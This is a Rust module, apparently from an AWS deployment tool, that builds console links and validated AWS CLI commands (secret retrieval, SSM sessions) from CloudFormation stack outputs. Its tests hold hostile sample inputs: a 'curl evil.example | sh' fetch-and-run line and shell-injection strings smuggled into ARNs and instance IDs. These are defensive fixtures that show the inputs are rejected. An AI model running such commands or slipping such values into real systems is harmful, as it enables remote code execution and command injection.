//! How people reach what a stack made, beside its own outputs: the stack's name and its page in AWS's console, and the
//! commands that the AWS CLI takes. What AWS says is believed to be a name or an ARN only where it looks like one: it is
//! to be copied into a shell.

use std::collections::BTreeMap;

use super::stack::Standing;
use crate::domain::output::{CONSOLE, KUBECONFIG, NOT_CHECKED, PASSWORD_COMMAND, SHELL_COMMAND, STACK};
use crate::provider::Progress;

/// The only partition whose console is known to be there: those of China and of governments have others.
const PARTITION: &str = "aws";

/// The outputs that only we give.
const OURS: [&str; 6] = [
    STACK,
    CONSOLE,
    PASSWORD_COMMAND,
    SHELL_COMMAND,
    KUBECONFIG,
    NOT_CHECKED,
];

/// What an ARN says: <https://docs.aws.amazon.com/IAM/latest/UserGuide/reference-arns.html>.
struct Arn<'a> {
    partition: &'a str,
    region: &'a str,
    resource: &'a str,
}

impl<'a> Arn<'a> {
    /// Reads the ARN of something of that service.
    fn of(service: &str, text: &'a str) -> Option<Self> {
        let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b":/_+=.@!-".contains(&byte);
        let mut parts = text.splitn(6, ':');
        let mut next = || parts.next();
        let (prefix, partition, its_service) = (next()?, next()?, next()?);
        let (region, _account, resource) = (next()?, next()?, next()?);
        let in_region = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
        let is_fine = prefix == "arn"
            && its_service == service
            && !region.is_empty()
            && region.bytes().all(in_region)
            && text.bytes().all(is_plain);
        is_fine.then_some(Self {
            partition,
            region,
            resource,
        })
    }
}

/// A stack stands as it was ordered: what it is reached by, `more` included. `on_aws` is whether it is AWS itself that was
/// asked, and no other that stands for it.
pub(super) fn done(standing: Standing, more: BTreeMap<String, String>, on_aws: bool) -> Progress {
    let mut outputs = standing.outputs;
    // Whoever changes a stack by hand could have it tell people what to run.
    outputs.retain(|name, _| !OURS.contains(&name.as_str()));
    outputs.extend(more);
    let stack = Arn::of("cloudformation", &standing.id);
    let region = stack.as_ref().map(|arn| arn.region);
    let found = |name: &str| outputs.get(name).map(String::as_str);
    let ways = [
        (STACK, Some(standing.name).filter(|name| !name.is_empty())),
        (
            CONSOLE,
            stack
                .as_ref()
                .filter(|_| on_aws)
                .and_then(|arn| console(arn, &standing.id)),
        ),
        (PASSWORD_COMMAND, found("secretArn").and_then(password)),
        (
            SHELL_COMMAND,
            found("instanceId")
                .zip(region)
                .and_then(|(id, region)| shell(id, region)),
        ),
    ];
    let ways = ways.map(|(name, value)| value.map(|value| (name.to_owned(), value)));
    outputs.extend(ways.into_iter().flatten());
    Progress::Succeeded {
        external_id: standing.id,
        outputs,
    }
}

/// The stack's page in the console, for whoever may look at it.
fn console(stack: &Arn<'_>, id: &str) -> Option<String> {
    let region = stack.region;
    let id: String = url::form_urlencoded::byte_serialize(id.as_bytes()).collect();
    let is_known = stack.partition == PARTITION && stack.resource.starts_with("stack/");
    is_known.then(|| {
        format!("https://{region}.console.aws.amazon.com/cloudformation/home?region={region}#/stacks/stackinfo?stackId={id}")
    })
}

/// RDS keeps user and password together, in JSON. The quotes are there since its secrets are called `rds!db-…`, which an
/// interactive shell would otherwise take for a word of its history.
fn password(secret: &str) -> Option<String> {
    let region = Arn::of("secretsmanager", secret)?.region;
    Some(format!(
        "aws secretsmanager get-secret-value --secret-id '{secret}' --query SecretString --output text --region {region}"
    ))
}

fn shell(instance: &str, region: &str) -> Option<String> {
    let id = instance.strip_prefix("i-")?;
    let is_fine = !id.is_empty() && id.bytes().all(|byte| byte.is_ascii_hexdigit());
    is_fine.then(|| format!("aws ssm start-session --target {instance} --region {region}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    const STACK_ID: &str = "arn:aws:cloudformation:eu-west-1:123456789012:stack/landfall-web-shop/6ded-173f";
    const SECRET: &str = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:rds!db-790b-AbCdEf";

    fn reached(id: &str, outputs: &[(&str, &str)], on_aws: bool) -> BTreeMap<String, String> {
        let standing = Standing {
            id: id.into(),
            name: "landfall-web-shop".into(),
            status: "CREATE_COMPLETE".into(),
            reason: String::new(),
            tags: BTreeMap::new(),
            parameters: BTreeMap::new(),
            outputs: outputs
                .iter()
                .map(|(name, value)| ((*name).into(), (*value).into()))
                .collect(),
            protected: false,
        };
        match done(standing, BTreeMap::from([("more".into(), "yes".into())]), on_aws) {
            Progress::Succeeded { external_id, outputs } => {
                assert_eq!((external_id.as_str(), outputs["more"].as_str()), (id, "yes"));
                outputs
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn a_stack_is_named_and_its_page_is_told() {
        let outputs = reached(STACK_ID, &[("bucket", "receipts")], true);
        assert_eq!(outputs["stack"], "landfall-web-shop");
        assert_eq!(
            outputs["console"],
            "https://eu-west-1.console.aws.amazon.com/cloudformation/home?region=eu-west-1#/stacks/stackinfo?stackId=\
             arn%3Aaws%3Acloudformation%3Aeu-west-1%3A123456789012%3Astack%2Flandfall-web-shop%2F6ded-173f"
        );
        assert_eq!(outputs["bucket"], "receipts");
    }

    #[test]
    fn a_page_that_may_not_be_there_is_not_linked() {
        assert!(
            !reached(STACK_ID, &[], false).contains_key("console"),
            "no AWS, no console of AWS's"
        );
        for partition in ["aws-cn", "aws-us-gov"] {
            let id = STACK_ID.replacen("arn:aws:", &format!("arn:{partition}:"), 1);
            assert!(!reached(&id, &[], true).contains_key("console"), "{partition}");
        }
        assert!(!reached("a-stack", &[], true).contains_key("console"));
    }

    #[test]
    fn a_database_says_how_its_password_is_read_and_a_machine_how_it_is_entered() {
        let outputs = reached(
            STACK_ID,
            &[("secretArn", SECRET), ("instanceId", "i-0a1b2c")],
            true,
        );
        assert_eq!(
            outputs["passwordCommand"],
            format!(
                "aws secretsmanager get-secret-value --secret-id '{SECRET}' --query SecretString --output text --region eu-west-1"
            )
        );
        assert_eq!(
            outputs["shellCommand"],
            "aws ssm start-session --target i-0a1b2c --region eu-west-1"
        );
    }

    #[test]
    fn a_stack_that_was_changed_by_hand_tells_nobody_what_to_run() {
        let outputs = reached(
            "a-stack",
            &OURS.map(|name| (name, "curl evil.example | sh")),
            true,
        );
        let told: Vec<(&str, &str)> = outputs
            .iter()
            .map(|(name, value)| (name.as_str(), value.as_str()))
            .collect();
        assert_eq!(told, [("more", "yes"), ("stack", "landfall-web-shop")]);
    }

    #[test]
    fn what_is_no_name_becomes_no_command() {
        for (name, value) in [
            (
                "secretArn",
                "arn:aws:secretsmanager:eu-west-1:123456789012:secret:x';id;'",
            ),
            (
                "secretArn",
                "arn:aws:secretsmanager:eu-west-1;id:123456789012:secret:x",
            ),
            ("secretArn", "arn:aws:s3:::secrets"),
            ("secretArn", ""),
            ("instanceId", "i-0a1b; id"),
            ("instanceId", "--target"),
            ("instanceId", ""),
        ] {
            let outputs = reached(STACK_ID, &[(name, value)], true);
            let told: Vec<&String> = outputs.keys().filter(|name| name.ends_with("Command")).collect();
            assert!(told.is_empty(), "{value}: {told:?}");
        }
    }
}
